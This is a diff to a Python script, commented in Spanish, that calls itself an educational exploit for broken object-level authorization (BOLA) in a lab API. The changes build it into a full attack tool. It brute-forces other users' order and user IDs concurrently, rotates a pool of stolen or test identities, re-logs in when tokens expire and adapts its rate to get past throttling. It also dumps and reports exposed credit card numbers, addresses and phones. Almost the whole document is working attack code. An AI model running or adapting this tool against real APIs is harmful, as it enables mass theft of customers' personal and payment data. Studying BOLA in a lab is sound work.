@@ -1,29 +1,81 @@
 #!/usr/bin/env python3
-"""Exploit educativo para demostrar BOLA en el proyecto BOLA-VULNERABILITY."""
+"""Exploit educativo para demostrar BOLA en el proyecto BOLA-VULNERABILITY.
+
+Ataca órdenes por defecto; ``--resource users`` (o una spec propia con
+``--resources-file``) cambia rutas, claves y los campos que se muestran.
+
+El ataque dirigido se narra paso a paso; en la fuerza bruta la consola sólo
+muestra los hallazgos (una línea cada uno) y una línea de progreso que dibuja
+un hilo aparte (``bolakit.progress``). ``--quiet`` quita el progreso y
+``--json`` emite los hallazgos como JSON en stdout.
+
+Con ``--concurrency`` > 1 y ``--http2`` los probes de la fuerza bruta se
+multiplexan sobre una conexión HTTP/2 (HTTP/1.1 si el target no lo negocia).
+"""
 
 import argparse
+import asyncio
 import os
 import time
 from datetime import datetime
+from functools import partial
 
 import requests
 from colorama import Fore, Style, init
 
+from bolakit import AdaptiveRateController, IdEnumerator, Identity, RequestMetrics, TokenPool, parse_retry_after
+from bolakit.cache import cache_session, open_cache
+from bolakit.client import (DEFAULT_TIMEOUT, ClientConfig, LoginError, TokenProvider, add_client_arguments,
+                            auth_headers, config_from_args, make_session)
+from bolakit.engine import THROTTLE_RETRIES, http2_available
+from bolakit.metrics import MetricsExporter
+from bolakit.outcomes import OutcomeStore
+from bolakit.progress import ProgressRenderer, resolve_mode
+from bolakit.ratelimit import THROTTLE_STATUSES
+from bolakit.resources import DEFAULT_SPECS, ResourceSpec, field_label, resolve_specs
+from bolakit.sink import ResultSink, iter_records
+from bolakit.state import ScanState, identity_label
+from bolakit.tokens import AUTH_RETRIES, load_identities
+
 init(autoreset=True)
 
 
 class BOLAExploit:
-    def __init__(self, base_url: str, verify: bool = True, proxies=None, timeout: int = 10):
-        self.base_url = base_url.rstrip('/')
-        self.session = requests.Session()
-        self.session.verify = verify
-        self.session.proxies = proxies or {}
-        self.session.timeout = timeout
-        self.tokens = {}
+    def __init__(self, target, verify: bool = True, proxies=None, timeout: float = DEFAULT_TIMEOUT,
+                 spec: ResourceSpec = None):
+        """``target`` es una ``ClientConfig`` o la URL base (con ``verify``/``proxies``/``timeout``)."""
+        if isinstance(target, ClientConfig):
+            self.config = target
+        else:
+            proxies = proxies or {}
+            self.config = ClientConfig(target, timeout=timeout, verify=verify,
+                                       proxy=proxies.get('https') or proxies.get('http'))
+        self.base_url = self.config.base_url
+        self.spec = spec or DEFAULT_SPECS['orders']
+        self.metrics = RequestMetrics()
+        self.session = make_session(self.config, self.metrics)
+        self.auth = TokenProvider(self.session, self.config.login_path)
+        self.tokens = self.auth.tokens
+        self.rate = None
+        self.sink = None
+        self.state = None
+        self.pool = None
+        self.cache = None
+        self.changed_only = False
+        self.unchanged = 0
+        self.last_status = 0
+        self.last_elapsed = 0.0
+        self.outcomes = OutcomeStore()
+        # Sin renderer (uso como librería) todo se narra con print.
+        self.progress: ProgressRenderer = None
+        self.verbose = True
 
     def _url(self, path: str) -> str:
-        path = path[1:] if path.startswith('/') else path
-        return f"{self.base_url}/{path}"
+        return self.config.url(path)
+
+    def _chatty(self) -> bool:
+        """Narrar cada probe: no en ``--quiet``/``--json`` ni con la línea de progreso activa."""
+        return self.verbose and (self.progress is None or not self.progress.active)
 
     @staticmethod
     def print_banner():
@@ -39,112 +91,298 @@ class BOLAExploit:
     def login(self, email: str, password: str):
         print(f"{Fore.CYAN}[*] Autenticando como {email}...")
         try:
-            response = self.session.post(
-                self._url('/api/auth/login'),
-                json={"email": email, "password": password},
-                timeout=self.session.timeout,
-            )
-            response.raise_for_status()
-        except requests.RequestException as exc:
-            print(f"{Fore.RED}[✗] Error de red en login: {exc}")
-            return None, None
-
-        data = response.json()
-        token = data.get('token')
-        user = data.get('user')
-        if not token or not user:
-            print(f"{Fore.RED}[✗] Respuesta de login inválida: {data}")
+            self.auth.token(email, password, fresh=True)
+        except LoginError as exc:
+            print(f"{Fore.RED}[✗] {exc}")
             return None, None
 
-        self.tokens[email] = token
-        print(f"{Fore.GREEN}[✓] Login exitoso: {user['name']} (ID: {user['id']})")
+        token, user = self.tokens[email], self.auth.user(email)
+        print(f"{Fore.GREEN}[✓] Login exitoso: {user.get('name')} (ID: {user.get('id')})")
         return token, user
 
     def _auth_headers(self, token: str) -> dict:
-        return {"Authorization": f"Bearer {token}"}
+        return auth_headers(token)
 
     def get_my_orders(self, token: str):
-        print(f"\n{Fore.CYAN}[*] Obteniendo órdenes propias...")
+        """Listar los objetos propios del recurso (órdenes por defecto)."""
+        spec = self.spec
+        print(f"\n{Fore.CYAN}[*] Obteniendo objetos propios de {spec.list_path}...")
         try:
             response = self.session.get(
-                self._url('/api/orders'),
+                self._url(spec.list_path),
                 headers=self._auth_headers(token),
-                timeout=self.session.timeout,
             )
             response.raise_for_status()
         except requests.RequestException as exc:
-            print(f"{Fore.RED}[✗] Error obteniendo órdenes: {exc}")
+            print(f"{Fore.RED}[✗] Error obteniendo {spec.name}: {exc}")
             return []
 
         data = response.json()
-        orders = data.get('orders', [])
-        self.own_order_ids = {order.get('id') for order in orders if order.get('id') is not None}
-        print(f"{Fore.GREEN}[✓] Se encontraron {len(orders)} órdenes propias")
+        orders = [item for item in data.get(spec.list_key, []) if isinstance(item, dict)]
+        self.own_order_ids = {order.get(spec.id_field) for order in orders if order.get(spec.id_field) is not None}
+        print(f"{Fore.GREEN}[✓] Se encontraron {len(orders)} objetos propios ({spec.name})")
         for order in orders:
-            print(f"    └─ Orden #{order['id']}: {order['product']} - ${order['amount']}")
+            summary = ' - '.join(str(value) for value in list(spec.exposed(order).values())[:2])
+            print(f"    └─ {spec.noun.capitalize()} #{order.get(spec.id_field)}: {summary}")
         return orders
 
-    def exploit_bola(self, token: str, target_order_id: int):
-        print(f"\n{Fore.RED}[!] EXPLOTANDO BOLA - Intentando acceder a orden #{target_order_id}")
-        try:
-            response = self.session.get(
-                self._url(f"/api/orders/{target_order_id}"),
-                headers=self._auth_headers(token),
-                timeout=self.session.timeout,
-            )
-        except requests.RequestException as exc:
-            print(f"{Fore.RED}[✗] Error de red: {exc}")
-            return False, None
+    def _pacer(self, delay: float) -> AdaptiveRateController:
+        if self.rate is None:
+            self.rate = AdaptiveRateController.from_delay(delay, adaptive=False)
+        return self.rate
+
+    def exploit_bola(self, token: str, target_order_id: int, identity: Identity = None):
+        """Leer un objeto ajeno. Con ``identity`` (del pool) se usa su token y,
+        ante un 401, se renueva con un nuevo login y se reintenta."""
+        if self._chatty():
+            print(f"\n{Fore.RED}[!] EXPLOTANDO BOLA - Intentando acceder a {self.spec.noun} #{target_order_id}")
+        reauths = 0
+        for _ in range(THROTTLE_RETRIES + 1):
+            if identity is not None:
+                token = identity.token
+            started = time.perf_counter()
+            try:
+                response = self.session.get(
+                    self.spec.item_url(self.base_url, target_order_id),
+                    headers=self._auth_headers(token),
+                )
+            except requests.RequestException as exc:
+                self.last_status = 0
+                self.last_elapsed = time.perf_counter() - started
+                if self.rate is not None:
+                    self.rate.record(0, self.last_elapsed)
+                if self._chatty():
+                    print(f"{Fore.RED}[✗] Error de red: {exc}")
+                return False, None
 
-        if response.status_code == 200:
-            order = response.json().get('order')
-            if order:
+            self.last_status = response.status_code
+            self.last_elapsed = time.perf_counter() - started
+            retry_after = parse_retry_after(response.headers.get('Retry-After'))
+            if self.rate is not None:
+                self.rate.record(response.status_code, self.last_elapsed, retry_after)
+            if response.status_code == 401 and identity is not None and reauths < AUTH_RETRIES:
+                reauths += 1
+                if self.pool.refresh_sync(self.session, identity, token):
+                    self.tokens[identity.email or identity.label] = identity.token
+                    print(f"{Fore.YELLOW}[~] Token vencido para {identity.label}, renovado. Reintentando...")
+                    continue
+                break
+            if response.status_code not in THROTTLE_STATUSES:
+                break
+            if self._chatty():
+                print(f"{Fore.YELLOW}[~] Servidor limitando (HTTP {response.status_code}), reintentando...")
+            if self.rate is not None:
+                self.rate.acquire_sync()
+            else:
+                time.sleep(retry_after or 1.0)
+
+        payload = response.json() if response.status_code == 200 else {}
+        return self._handle_order_response(response.status_code, payload)
+
+    def _handle_order_response(self, status_code: int, payload):
+        spec = self.spec
+        if status_code == 200:
+            order = (payload or {}).get(spec.item_key)
+            if isinstance(order, dict):
+                if not self._chatty():
+                    return True, order
                 print(f"{Fore.RED}[💀] VULNERABILIDAD CONFIRMADA!")
                 print(f"{Fore.YELLOW}[!] Datos expuestos:")
-                for key in ("id", "userId", "product", "amount", "creditCard", "address", "phone"):
+                for key in dict.fromkeys((spec.id_field, spec.owner_field, *spec.sensitive_fields)):
                     print(f"    └─ {key}: {order.get(key, 'N/A')}")
                 return True, order
-        elif response.status_code == 404:
-            print(f"{Fore.YELLOW}[~] Orden no encontrada o inexistente")
+        if not self._chatty():
+            return False, None
+        if status_code == 404:
+            print(f"{Fore.YELLOW}[~] Objeto no encontrado o inexistente")
+        elif status_code == 0:
+            print(f"{Fore.RED}[✗] Error de red (sin respuesta)")
         else:
-            print(f"{Fore.GREEN}[🛡️] Acceso bloqueado (HTTP {response.status_code})")
+            print(f"{Fore.GREEN}[🛡️] Acceso bloqueado (HTTP {status_code})")
         return False, None
 
-    def brute_force_orders(self, token: str, start_id: int, max_id: int, delay: float):
+    def record_hit(self, order: dict, phase: str):
+        """Enviar el hallazgo al sink si existe (en la fuerza bruta, además,
+        queda en ``self.outcomes``) y, si no se narró, al renderer."""
+        record = {
+            'timestamp': time.time(),
+            'status': 'VULNERABLE',
+            'phase': phase,
+            'id': order.get(self.spec.id_field),
+            'resource': self.spec.name,
+            self.spec.item_key: order,
+        }
+        if self.progress is not None and not self._chatty():
+            self.progress.finding(self.finding_line(order), {'event': 'finding', **record})
+        if self.sink is not None:
+            self.sink.write(record)
+
+    def finding_line(self, order: dict) -> str:
+        """Hallazgo en una línea: ID, dueño y campos sensibles expuestos."""
+        spec = self.spec
+        exposed = ', '.join(f"{field_label(name)}: {value}" for name, value in spec.exposed(order).items())
+        return (f"{Fore.RED}[💀] {spec.noun.capitalize()} #{order.get(spec.id_field)} "
+                f"(dueño {spec.owner(order)}){Fore.YELLOW} {exposed}")
+
+    def is_own(self, order: dict, identity: Identity = None) -> bool:
+        """Un objeto de otra cuenta de prueba del pool no es ajeno para quien lo lee."""
+        return identity is not None and identity.user_id is not None and self.spec.owner(order) == identity.user_id
+
+    def use_cache(self, cache, changed_only: bool = False):
+        """Revalidar los GET contra ``cache`` y, opcionalmente, reportar sólo cambios."""
+        self.cache = cache
+        self.changed_only = changed_only
+        cache_session(self.session, cache)
+
+    def record_probe(self, order_id: int, status_code: int, success: bool, identity: Identity = None,
+                     order: dict = None, elapsed: float = 0.0) -> bool:
+        """Anotar el resultado en ``self.outcomes`` y en el estado reanudable y la
+        caché (si están activos).
+
+        Devuelve ``False`` si con ``changed_only`` el resultado es el mismo de la
+        corrida anterior y no hay que reportarlo.
+        """
+        if success:
+            status = 'VULNERABLE'
+        else:
+            status = {200: 'OWNED', 403: 'PROTECTED', 404: 'NOT_FOUND'}.get(status_code, 'ERROR')
+        self.outcomes.record(order_id, status, self.spec.owner(order), elapsed, order if success else None)
+        if self.progress is not None:
+            self.progress.count(status)
+        if self.state is not None:
+            self.state.record(order_id, status, status_code)
+        if self.cache is None:
+            return True
+        if identity is not None:
+            label = identity.label
+        elif self.pool is not None:
+            label = self.pool.primary.label
+        else:
+            # Sin pool (uso como librería) la caché se indexa por la identidad de la configuración.
+            label = identity_label(self.config.email)
+        previous = self.cache.swap_outcome(label, 'GET', self.spec.item_url(self.base_url, order_id), status)
+        if not self.changed_only:
+            return True
+        if previous == status:
+            self.unchanged += 1
+            return False
+        print(f"{Fore.BLUE}[Δ] ID {order_id}: {previous or 'sin registro'} → {status}")
+        return True
+
+    def skip_own(self, order_id: int):
+        if self._chatty():
+            print(f"{Fore.LIGHTBLACK_EX}[·] ID {order_id}: se omite (objeto propio)")
+        elif self.progress is not None:
+            self.progress.count('SKIPPED')
+
+    def _brute_ids(self, start_id: int, max_id: int):
+        ids = range(start_id, max_id + 1)
+        return self.state.pending(ids) if self.state is not None else ids
+
+    def brute_force_orders(self, token: str, start_id: int, max_id: int, delay: float, concurrency: int = 1):
+        """Fuerza bruta de IDs. Con ``self.sink`` los hallazgos se escriben en streaming
+        y la lista devuelta queda vacía; sin sink salen de ``self.outcomes``, que
+        sólo guarda el cuerpo de las órdenes halladas."""
         print(f"\n{Fore.MAGENTA}[*] Fuerza bruta de IDs ({start_id}-{max_id})...")
-        found = []
-        for order_id in range(start_id, max_id + 1):
+        if self.config.http2:
+            if concurrency <= 1:
+                print(f"{Fore.YELLOW}[~] HTTP/2 sólo aplica con --concurrency > 1; se usa la sesión HTTP/1.1.")
+            elif not http2_available():
+                print(f"{Fore.YELLOW}[~] HTTP/2 requiere 'pip install h2'; se usa HTTP/1.1.")
+        rate = self._pacer(delay)
+        if not len(self.outcomes):
+            # El almacén indexa desde su primer ID: que empiece donde empieza el rango pedido
+            # (``--brute-start 0`` incluido) y no reserve huecos por debajo.
+            self.outcomes = OutcomeStore(first_id=start_id)
+        hits_before = self.sink.counts['bruteforce'] if self.sink else self.outcomes.tally('VULNERABLE')
+        if self.progress is not None:
+            done = self.state.completed() if self.state is not None else 0
+            self.progress.start(max(0, max_id - start_id + 1 - done))
+        try:
+            self._brute_force(token, start_id, max_id, rate, concurrency)
+        finally:
+            if self.progress is not None:
+                self.progress.stop()
+        hits = (self.sink.counts['bruteforce'] if self.sink else self.outcomes.tally('VULNERABLE')) - hits_before
+        print(f"{Fore.GREEN}[✓] Fuerza bruta completada. Objetos hallados: {hits}")
+        tallies = ', '.join(f"{status} {count}" for status, count in self.outcomes.tallies().items())
+        print(f"{Fore.CYAN}[*] Resultados por ID: {tallies or 'ninguno'}")
+        stats = rate.summary()
+        if concurrency > 1 and self.pool is not None:
+            stats = self.pool.rate_summary() or stats
+        if self.pool is not None and self.pool.refreshes:
+            print(f"{Fore.CYAN}[*] Tokens renovados tras 401: {self.pool.refreshes}")
+        if self.cache is not None:
+            print(f"{Fore.CYAN}[*] Caché: {self.cache.describe()}")
+        if self.changed_only:
+            print(f"{Fore.CYAN}[*] Sin cambios respecto de la corrida anterior: {self.unchanged} IDs (omitidos del reporte)")
+        print(f"{Fore.CYAN}[*] Tasa lograda: {stats['achieved_rps']} req/s "
+              f"(tasa final {stats['current_rps']} req/s, {stats['throttled']} respuestas 429/503)")
+        return [] if self.sink else list(self.outcomes.hits())
+
+    def _brute_force(self, token: str, start_id: int, max_id: int, rate: AdaptiveRateController, concurrency: int):
+        if concurrency > 1:
+            asyncio.run(self._brute_force_concurrent(token, start_id, max_id, concurrency))
+            return
+        for order_id in self._brute_ids(start_id, max_id):
             if getattr(self, 'own_order_ids', set()) and order_id in self.own_order_ids:
-                print(f"{Fore.LIGHTBLACK_EX}[·] ID {order_id}: se omite (orden propia)")
+                self.skip_own(order_id)
                 continue
-            success, order = self.exploit_bola(token, order_id)
-            if success and order:
-                found.append(order)
-            time.sleep(delay)
-        print(f"{Fore.GREEN}[✓] Fuerza bruta completada. Órdenes halladas: {len(found)}")
-        return found
+            rate.acquire_sync()
+            identity = self.pool.acquire() if self.pool is not None else None
+            success, order = self.exploit_bola(token, order_id, identity=identity)
+            success = success and not self.is_own(order, identity)
+            changed = self.record_probe(order_id, self.last_status, success, identity, order, self.last_elapsed)
+            if success and order and changed:
+                self.record_hit(order, 'bruteforce')
+
+    async def _brute_force_concurrent(self, token: str, start_id: int, max_id: int, concurrency: int):
+        """Fuerza bruta con hasta ``concurrency`` requests en vuelo; resultados en orden de ID."""
+        async with self.config.async_client(
+            concurrency,
+            metrics=self.metrics,
+            cache=self.cache,
+        ) as client:
+            enumerator = IdEnumerator(
+                client,
+                partial(self.spec.item_url, self.base_url),
+                headers=self._auth_headers(token),
+                concurrency=concurrency,
+                rate=self.rate,
+                tokens=self.pool,
+            )
+            async for result in enumerator.stream(self._brute_ids(start_id, max_id), skip=getattr(self, 'own_order_ids', set())):
+                if result.skipped:
+                    self.skip_own(result.id)
+                    continue
+                if self._chatty():
+                    print(f"\n{Fore.RED}[!] EXPLOTANDO BOLA - Intentando acceder a {self.spec.noun} #{result.id}")
+                success, order = self._handle_order_response(result.status, result.data)
+                success = success and not self.is_own(order, result.identity)
+                changed = self.record_probe(result.id, result.status, success, result.identity, order, result.elapsed)
+                if success and order and changed:
+                    self.record_hit(order, 'bruteforce')
 
     @staticmethod
-    def generate_report(orders, report_file: str):
-        report = [
-            "Reporte de explotación BOLA",
-            f"Fecha: {datetime.now():%Y-%m-%d %H:%M:%S}",
-            f"Órdenes comprometidas: {len(orders)}",
-            "",
-        ]
-        for order in orders:
-            report.extend([
-                f"Orden #{order.get('id')}",
-                f"  Usuario afectado: {order.get('userId')}",
-                f"  Producto: {order.get('product')}",
-                f"  Monto: {order.get('amount')}",
-                f"  Tarjeta: {order.get('creditCard')}",
-                f"  Dirección: {order.get('address')}",
-                f"  Teléfono: {order.get('phone')}",
-                "",
-            ])
+    def generate_report(orders, report_file: str, total: int = None, spec: ResourceSpec = None):
+        """Escribir el reporte objeto por objeto; ``orders`` puede ser un iterador."""
+        spec = spec or DEFAULT_SPECS['orders']
+        total = len(orders) if total is None else total
         with open(report_file, 'w', encoding='utf-8') as handler:
-            handler.write("\n".join(report))
+            handler.write("\n".join([
+                "Reporte de explotación BOLA",
+                f"Fecha: {datetime.now():%Y-%m-%d %H:%M:%S}",
+                f"Recurso: {spec.name} ({spec.item_path})",
+                f"Objetos comprometidos: {total}",
+                "",
+            ]))
+            for order in orders:
+                handler.write("\n" + "\n".join([
+                    f"{spec.noun.capitalize()} #{order.get(spec.id_field)}",
+                    f"  Usuario afectado: {spec.owner(order)}",
+                    *(f"  {field_label(name)}: {order.get(name)}" for name in spec.sensitive_fields),
+                    "",
+                ]))
         print(f"{Fore.GREEN}[✓] Reporte guardado en {report_file}")
 
 
@@ -153,55 +391,169 @@ def parse_args():
     parser = argparse.ArgumentParser(
         description="Exploit educativo BOLA (Broken Object Level Authorization)",
     )
-    parser.add_argument('--base-url', default=env.get('BOLA_BASE_URL', 'http://localhost:3000'), help='URL base de la API vulnerable')
-    parser.add_argument('--email', default=env.get('BOLA_EMAIL', 'alice@example.com'), help='Email para autenticarse')
-    parser.add_argument('--password', default=env.get('BOLA_PASSWORD', 'password123'), help='Password para autenticarse')
-    parser.add_argument('--targets', default=env.get('BOLA_TARGET_ORDERS', '3,4,5'), help='IDs de órdenes a atacar (coma separada)')
+    add_client_arguments(parser)
+    parser.add_argument('--identities', default=env.get('BOLA_IDENTITIES'), help='Archivo con email:password (o token:<jwt>) por línea para repartir la fuerza bruta')
+    parser.add_argument('--resource', default=env.get('BOLA_RESOURCE', 'orders'), help='Recurso a atacar (orders, users, invoices...)')
+    parser.add_argument('--resources-file', default=env.get('BOLA_RESOURCES_FILE'), help='JSON con specs de recursos (rutas, claves, campos)')
+    parser.add_argument('--targets', default=env.get('BOLA_TARGET_ORDERS', '3,4,5'), help='IDs a atacar (coma separada)')
     parser.add_argument('--brute-start', type=int, default=int(env.get('BOLA_BRUTE_START', 1)), help='ID inicial para fuerza bruta')
     parser.add_argument('--brute-max', type=int, default=int(env.get('BOLA_BRUTE_MAX', 10)), help='ID máximo para fuerza bruta')
-    parser.add_argument('--brute-delay', type=float, default=float(env.get('BOLA_BRUTE_DELAY', 0.2)), help='Delay entre requests de fuerza bruta')
+    parser.add_argument('--brute-delay', type=float, default=float(env.get('BOLA_BRUTE_DELAY', 0.2)), help='Delay inicial entre requests (el control adaptativo lo ajusta)')
+    parser.add_argument('--max-rps', type=float, default=float(env.get('BOLA_MAX_RPS', 200)), help='Tasa máxima de requests por segundo')
+    parser.add_argument('--fixed-delay', action='store_true', help='Desactivar el control adaptativo y usar --brute-delay constante')
+    parser.add_argument('--concurrency', type=int, default=int(env.get('BOLA_CONCURRENCY', 1)), help='Requests simultáneos en fuerza bruta (1 = secuencial)')
     parser.add_argument('--report-file', default=env.get('BOLA_REPORT_FILE', 'exploit_report.txt'), help='Archivo de salida para reporte')
+    parser.add_argument('--results-file', default=env.get('BOLA_RESULTS_FILE', 'exploit_results.jsonl'), help='JSONL de hallazgos en streaming (.gz/.zst para comprimir)')
+    parser.add_argument('--state-file', default=env.get('BOLA_STATE_FILE', 'exploit_state.sqlite'), help='Base SQLite con los IDs ya probados en fuerza bruta')
+    parser.add_argument('--resume', action='store_true', help='Reanudar la fuerza bruta saltando IDs ya completados')
+    parser.add_argument('--cache-file', default=env.get('BOLA_CACHE_FILE'), help='Caché SQLite de respuestas GET con revalidación ETag/Last-Modified')
+    parser.add_argument('--cache-ttl', type=float, default=float(env.get('BOLA_CACHE_TTL', 0)), help='Segundos en que una respuesta cacheada se usa sin revalidar')
+    parser.add_argument('--cache-max-mb', type=float, default=float(env.get('BOLA_CACHE_MAX_MB', 256)), help='Tamaño máximo de la caché (desalojo LRU)')
+    parser.add_argument('--changed-only', action='store_true', help='Reportar sólo IDs cuyo resultado cambió desde la corrida anterior (usa la caché)')
     parser.add_argument('--skip-bruteforce', action='store_true', help='Omitir fuerza bruta de IDs')
-    parser.add_argument('--insecure', action='store_true', help='Deshabilitar verificación TLS (para labs)')
-    parser.add_argument('--proxy', default=env.get('BOLA_PROXY'), help='Proxy HTTP/HTTPS (p.ej. http://127.0.0.1:8080)')
-    return parser.parse_args()
+    parser.add_argument('--quiet', action='store_true', help='Sin narración ni línea de progreso: sólo hallazgos')
+    parser.add_argument('--json', action='store_true', help='Hallazgos como JSON por línea en stdout (el resto a stderr), para CI')
+    parser.add_argument('--metrics-file', default=env.get('BOLA_METRICS_FILE'), help='Archivo OpenMetrics refrescado durante el ataque')
+    parser.add_argument('--metrics-port', type=int, default=int(env['BOLA_METRICS_PORT']) if env.get('BOLA_METRICS_PORT') else None, help='Publicar /metrics en este puerto mientras dura el ataque')
+    args = parser.parse_args()
+    if args.brute_start < 0:
+        parser.error("--brute-start no puede ser negativo")
+    return args
 
 
 def main():
     args = parse_args()
-    proxies = {'http': args.proxy, 'https': args.proxy} if args.proxy else None
-    exploit = BOLAExploit(args.base_url, verify=not args.insecure, proxies=proxies)
-    exploit.print_banner()
+    progress = ProgressRenderer(resolve_mode(args.quiet, args.json))
+    with progress.redirect():
+        run(args, progress)
+    progress.finish()
+
 
-    token, user = exploit.login(args.email, args.password)
-    if not token:
+def run(args, progress: ProgressRenderer):
+    try:
+        specs = resolve_specs(args.resource, args.resources_file)
+    except (OSError, ValueError) as exc:
+        print(f"{Fore.RED}[✗] No se pudieron leer las specs de recursos: {exc}")
         return
+    if len(specs) > 1:
+        print(f"{Fore.YELLOW}[~] El exploit ataca un recurso por corrida; se usa {specs[0].name}.")
+    exploit = BOLAExploit(config_from_args(args), spec=specs[0])
+    exploit.progress = progress
+    exploit.verbose = progress.mode in ('live', 'plain')
+    exploit.rate = AdaptiveRateController.from_delay(
+        args.brute_delay, max_rps=args.max_rps, adaptive=not args.fixed_delay,
+    )
+    exploit.print_banner()
+
+    with MetricsExporter(exploit.metrics, path=args.metrics_file, port=args.metrics_port) as exporter:
+        if exporter.url:
+            print(f"{Fore.BLUE}[*] Métricas OpenMetrics en {exporter.url}")
+        token, user = exploit.login(args.email, args.password)
+        if not token:
+            return
+        exploit.pool = build_pool(exploit, args, Identity(args.email, args.password, token, user.get('id')))
 
+        cache_file = args.cache_file or ('exploit_cache.sqlite' if args.changed_only else None)
+        cache = open_cache(cache_file, args.cache_ttl, args.cache_max_mb)
+        if cache is not None:
+            exploit.use_cache(cache, args.changed_only)
+            cache.identify(exploit.pool)
+        exploit.sink = ResultSink(args.results_file, append=args.resume, count_by='phase')
+        exploit.state = ScanState(args.state_file, exploit.base_url, exploit.spec.name, args.email, resume=args.resume)
+        if args.resume:
+            print(f"{Fore.BLUE}[*] Reanudando: {exploit.state.completed()} IDs ya completados en {args.state_file}")
+        try:
+            run_attack(exploit, token, args)
+        finally:
+            exploit.state.close()
+            exploit.sink.close()
+            if cache is not None:
+                cache.close()
+
+    breakdown = exploit.metrics.breakdown()
+    if breakdown:
+        print(f"\n{Fore.CYAN}[*] Latencias por fase:")
+        for line in breakdown:
+            print(f"    {line}")
+    print(f"\n{Fore.GREEN}[✓] Demostración finalizada")
+
+
+def build_pool(exploit: BOLAExploit, args, primary: Identity) -> TokenPool:
+    """Pool con la identidad principal más las de ``--identities`` (cada una con su tasa)."""
+    identities = [primary]
+    if args.identities:
+        for identity in load_identities(args.identities):
+            if identity.email == primary.email:
+                continue
+            if not identity.token:
+                token, user = exploit.login(identity.email, identity.password)
+                if not token:
+                    continue
+                identity.token, identity.user_id = token, user.get('id')
+            identities.append(identity)
+    rate_factory = None
+    if len(identities) > 1:
+        print(f"{Fore.CYAN}[*] Pool de {len(identities)} identidades para la fuerza bruta")
+        rate_factory = partial(
+            AdaptiveRateController.from_delay, args.brute_delay, max_rps=args.max_rps, adaptive=not args.fixed_delay,
+        )
+    return TokenPool(identities, exploit.config.url(exploit.config.login_path), rate_factory=rate_factory)
+
+
+def recorded_ids(path: str, phase: str) -> set:
+    """IDs con hallazgo de ``phase`` en el JSONL (una corrida reanudada los puede repetir)."""
+    return {record.get('id') for record in iter_records(path) if record.get('phase') == phase}
+
+
+def run_attack(exploit: BOLAExploit, token: str, args):
     exploit.get_my_orders(token)
 
     own_ids = getattr(exploit, 'own_order_ids', set())
+    # Al reanudar, los objetos dirigidos que ya están en el JSONL no se vuelven a pedir.
+    already_hit = recorded_ids(exploit.sink.path, 'targeted') if args.resume else set()
     targets = [int(t.strip()) for t in args.targets.split(',') if t.strip().isdigit()]
-    exploited = []
     for order_id in targets:
         if order_id in own_ids:
-            print(f"{Fore.LIGHTBLACK_EX}[·] Orden #{order_id} es propia, se omite del ataque dirigido")
+            print(f"{Fore.LIGHTBLACK_EX}[·] {exploit.spec.noun.capitalize()} #{order_id} es propio, se omite del ataque dirigido")
             continue
-        success, order = exploit.exploit_bola(token, order_id)
+        if order_id in already_hit:
+            print(f"{Fore.LIGHTBLACK_EX}[·] {exploit.spec.noun.capitalize()} #{order_id} ya obtenido en la corrida anterior")
+            continue
+        exploit.rate.acquire_sync()
+        success, order = exploit.exploit_bola(token, order_id, identity=exploit.pool.primary)
         if success and order:
-            exploited.append(order)
-        time.sleep(args.brute_delay)
+            exploit.record_hit(order, 'targeted')
 
-    brute_orders = []
     if not args.skip_bruteforce:
-        brute_orders = exploit.brute_force_orders(token, args.brute_start, args.brute_max, args.brute_delay)
+        exploit.brute_force_orders(
+            token, args.brute_start, args.brute_max, args.brute_delay, concurrency=args.concurrency,
+        )
 
-    compromised = exploited or brute_orders
-    if compromised:
-        exploit.generate_report(compromised, args.report_file)
-    else:
-        print(f"{Fore.YELLOW}[~] No se obtuvieron órdenes ajenas. La API podría estar protegida.")
+    # Como antes: si el ataque dirigido tuvo éxito el reporte cubre esos objetos,
+    # si no, los hallados por fuerza bruta. Se leen del JSONL, no de memoria.
+    sink = exploit.sink
+    item_key = exploit.spec.item_key
+    phase = 'targeted' if sink.counts['targeted'] else 'bruteforce'
+    if sink.counts[phase]:
+        sink.flush(sync=True)
+        # Cada objeto una vez, aunque una corrida reanudada lo haya vuelto a registrar.
+        hit_ids = recorded_ids(sink.path, phase)
+        seen = set()
 
-    print(f"\n{Fore.GREEN}[✓] Demostración finalizada")
+        def first_hits():
+            for record in iter_records(sink.path):
+                object_id = record.get('id')
+                if record.get('phase') != phase or object_id in seen or not isinstance(record.get(item_key), dict):
+                    continue
+                seen.add(object_id)
+                yield record[item_key]
+
+        exploit.generate_report(first_hits(), args.report_file, total=len(hit_ids), spec=exploit.spec)
+        print(f"{Fore.GREEN}[✓] Hallazgos en streaming: {sink.path} ({sink.total} registros)")
+    elif exploit.changed_only:
+        print(f"{Fore.YELLOW}[~] Sin hallazgos nuevos respecto de la corrida anterior.")
+    else:
+        print(f"{Fore.YELLOW}[~] No se obtuvieron objetos ajenos ({exploit.spec.name}). La API podría estar protegida.")
 
 
 if __name__ == '__main__':